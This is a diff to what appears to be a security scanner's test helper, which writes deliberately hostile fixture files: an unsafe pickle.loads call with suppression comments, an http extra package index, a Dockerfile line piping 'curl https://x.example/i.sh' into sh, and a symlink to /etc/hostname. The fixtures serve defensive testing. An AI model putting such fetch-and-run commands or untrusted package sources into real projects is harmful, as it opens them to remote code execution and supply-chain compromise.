@@ -76,7 +76,7 @@ def _hostile_files(repo: Path) -> None:
     (repo / "quiet.py").write_text(
         "import pickle\npickle.loads(b'')  # mlsec: ignore[MLS301] reviewed\nx = 1  # mlsec: ignore[MLS999]\n"
     )
-    (repo / "requirements-dev.txt").write_text("-r requirements.txt\nflask==0.12\n")
+    (repo / "requirements-dev.txt").write_text("-r requirements.txt\n--extra-index-url http://pkgs.example/simple\n")
     (repo / "Dockerfile.dev").write_text("FROM python\nRUN curl https://x.example/i.sh | sh\n")
     (repo / "people.csv").write_text("name,email\nAda,ada@example.org\nBob,bob@example.org\n")
     (repo / "outside").symlink_to("/etc/hostname")
